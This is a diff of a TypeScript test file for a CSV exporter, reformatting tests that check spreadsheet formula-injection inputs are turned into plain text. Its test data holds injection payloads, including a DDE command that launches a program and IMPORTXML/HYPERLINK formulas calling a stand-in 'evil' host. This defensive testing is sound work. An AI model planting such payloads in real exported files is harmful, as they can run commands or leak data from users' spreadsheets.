@@ -29,19 +29,39 @@ const read = (csv: string): string[][] => {
 };
 
 test.each([
-  '=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '\0=1', '＝1', '＋1', '－1', '＠a', '  =1', '\u200b=1',
-  "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x', '=IMPORTXML("http://evil","//a")', '=HYPERLINK("http://evil")', '+1 334 555 0100',
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\0=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠a',
+  '  =1',
+  '\u200b=1',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|x',
+  '=IMPORTXML("http://evil","//a")',
+  '=HYPERLINK("http://evil")',
+  '+1 334 555 0100',
 ])('%j is a text and no formula', (question) => {
   const cell = read(csvOf([asked(question)]))[0]?.[3];
   expect(cell).toBe(`'${question.replaceAll('\0', '')}`);
 });
 
-test.each(['a "quoted", name', 'two\r\nlines', '";=1+1;"', 'Société Générale 株式会社 🙂', "O'Brien"])('%j comes back as it was', (question) => {
-  const rows = read(csvOf([asked(question), asked('next')]));
-  expect(rows.map((row) => row.length)).toEqual([10, 10]);
-  expect(rows[0]?.[3]).toBe(question);
-  expect(rows[0]?.[5]).toBe('Müller & Söhne');
-});
+test.each(['a "quoted", name', 'two\r\nlines', '";=1+1;"', 'Société Générale 株式会社 🙂', "O'Brien"])(
+  '%j comes back as it was',
+  (question) => {
+    const rows = read(csvOf([asked(question), asked('next')]));
+    expect(rows.map((row) => row.length)).toEqual([10, 10]);
+    expect(rows[0]?.[3]).toBe(question);
+    expect(rows[0]?.[5]).toBe('Müller & Söhne');
+  },
+);
 
 test('any text comes back, and none begins a formula', () => {
   let seed = 7;
